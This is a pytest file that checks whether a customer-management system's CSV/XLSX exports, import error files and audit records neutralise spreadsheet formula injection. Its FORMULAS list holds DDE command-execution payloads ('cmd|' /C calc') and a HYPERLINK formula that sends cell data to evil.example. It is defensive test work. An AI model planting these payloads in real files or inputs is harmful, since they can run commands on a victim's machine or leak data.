"""What somebody typed is no formula in any file that goes out: customers, what was wrong in an import, the records."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from typing import Any

import openpyxl
import pytest

from ops.demo.api_client import ApiClient, eventually
from tests.support.fleet import Fleet

RISKY = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1)',
)


@dataclass
class Desk:
    """Who entered customers with such names, and who reads the records."""

    manager: ApiClient
    clerk: ApiClient
    auditor: ApiClient
    customers: list[str]


@pytest.fixture(scope="module")
def desk(fleet: Fleet, admin: ApiClient) -> Desk:
    root = next(unit for unit in admin.get("/departments")["items"] if unit["parent_id"] is None)["id"]
    manager = fleet.hire(admin, "formula.manager", "=1+1", ["customer_manager"], root)
    clerk = fleet.hire(admin, "formula.clerk", "@clerk", ["service"], root)
    auditor = fleet.hire(admin, "formula.auditor", "+auditor", ["auditor"], root)
    entry = {"kind": "company", "address": FORMULAS[0], "industry": FORMULAS[1]}
    made = [
        manager.post("/customers", {**entry, "name": name, "external_code": f"{name[0]}F{number}"})["id"]
        for number, name in enumerate(FORMULAS)
    ]
    return Desk(manager, clerk, auditor, made)


def fetched(fleet: Fleet, api: ApiClient, path: str) -> bytes:
    answer = fleet.client.send("GET", f"/api/v1{path}", api.headers(), None)
    assert answer.status == 200, answer.data
    return bytes(answer.data)


def cells_of(content: bytes) -> list[str]:
    """All cells of a CSV."""
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def exported(fleet: Fleet, desk: Desk, form: str) -> bytes:
    asked = desk.manager.post("/exports", {"format": form, "wanted": {"mine": True}})

    def done() -> Any:
        [found] = [export for export in desk.manager.get("/exports")["items"] if export["id"] == asked["id"]]
        assert found["status"] in {"running", "done"}, found
        return found["status"] == "done"

    eventually(done, what="the export")
    return fetched(fleet, desk.manager, f"/exports/{asked['id']}/file")


def harmless(cells: list[str]) -> None:
    """No cell begins like a formula, and those of the test are there."""
    assert [cell for cell in cells if cell.startswith(RISKY) and not cell[1:].isdigit()] == []
    assert any(cell.startswith("'") for cell in cells), "none of the formulas came into the file"


def test_no_cell_of_exported_customers_is_a_formula(fleet: Fleet, desk: Desk) -> None:
    cells = cells_of(exported(fleet, desk, "csv"))
    harmless(cells)
    assert {f"'{name}" for name in FORMULAS} <= set(cells)


def test_no_cell_of_an_exported_workbook_is_a_formula(fleet: Fleet, desk: Desk) -> None:
    book = openpyxl.load_workbook(io.BytesIO(exported(fleet, desk, "xlsx")))
    cells = [cell for sheet in book for row in sheet for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(not cell.hyperlink for cell in cells)
    assert any(str(cell.value).lstrip("'") == FORMULAS[0] for cell in cells)


def test_no_cell_of_the_errors_of_an_import_is_a_formula(fleet: Fleet, desk: Desk) -> None:
    rows = io.StringIO()
    writer = csv.writer(rows)
    writer.writerow(["编号", "姓名", "=性别()", "出生日期"])
    writer.writerows([f"F{number}", "陈凯", "x", text] for number, text in enumerate(FORMULAS))
    content = rows.getvalue().encode()
    made = desk.clerk.upload("/imports", {"kind": "customers"}, "=f.csv", content, key="formulas")
    read = eventually(lambda: _past(desk.clerk, made["id"], "reading"), what="the file to be read")
    assert read["status"] == "mapped", read
    desk.clerk.post(f"/imports/{made['id']}/start", {}, version=read["version"])
    run = eventually(lambda: _past(desk.clerk, made["id"], "running"), what="the rows to be checked")
    assert run["rejected"] == len(FORMULAS), run
    harmless(cells_of(fetched(fleet, desk.clerk, f"/imports/{made['id']}/errors.csv")))


def _past(api: ApiClient, identity: str, status: str) -> Any:
    found = api.get(f"/imports/{identity}")
    return found if found["status"] != status else None


@pytest.mark.parametrize("what", ["changes", "readings"])
def test_no_cell_of_the_records_is_a_formula(fleet: Fleet, desk: Desk, what: str) -> None:
    body = {"purpose": "contact", "note": FORMULAS[0]}
    desk.manager.post(f"/customers/{desk.customers[0]}/reveal", body)
    harmless(cells_of(fetched(fleet, desk.auditor, f"/audit/customer/{what}.csv")))
